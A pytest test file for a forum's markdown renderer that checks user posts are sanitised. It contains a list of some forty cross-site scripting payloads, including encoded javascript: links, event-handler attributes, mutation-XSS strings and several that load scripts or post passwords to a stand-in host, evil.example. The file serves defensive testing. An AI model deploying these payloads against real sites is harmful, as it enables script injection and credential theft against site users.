"""What members write can do no harm to those who read it."""

import re

import pytest

from fengqun.content.posts.richtext import render

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<body onload=alert(1)>",
    "<form action=//evil.example><input name=password></form>",
    "<style>body{display:none}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![x" onerror="alert(1)](x)',
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[a](http://ok.example "title" onmouseover=alert(1))',
    "[a](http://ok.example'onmouseover='alert(1))",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    '```" onclick=alert(1)\nx\n```',
    "\x00<script>alert(1)</script>",
    "**<b onclick=alert(1)>x</b>**",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
]
KNOWN = re.compile(
    r"</?(?:p|br|hr|em|strong|s|blockquote|code|pre|ul|ol|li|h3|h4)>|</a>"
    r"|<a (?:href=\"(?:https?://|mailto:|/)[^\"<>]*\" )?rel=\"nofollow ugc noopener\">"
)


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_text_comes_out_harmless(source):
    html = render(source)
    # nothing but the known tags is left, and those carry nothing but a harmless address
    assert "<" not in KNOWN.sub("", html), html


def test_a_hostile_page_of_everything_at_once_is_harmless():
    html = render("\n\n".join(HOSTILE))
    assert "<" not in KNOWN.sub("", html)


def test_plain_markdown_is_kept():
    assert render("# 标题\n\n**甜** *酸* ~~苦~~\n第二行\n\n- 一\n- 二\n\n> 引用") == (
        "<h3>标题</h3>\n<p><strong>甜</strong> <em>酸</em> <s>苦</s><br>\n第二行</p>\n"
        "<ul>\n<li>一</li>\n<li>二</li>\n</ul>\n<blockquote>\n<p>引用</p>\n</blockquote>\n"
    )


def test_links_say_that_they_were_written_by_users():
    assert render("[豆单](https://example.com/a?b=1&c=2)") == (
        '<p><a href="https://example.com/a?b=1&amp;c=2" rel="nofollow ugc noopener">豆单</a></p>\n'
    )
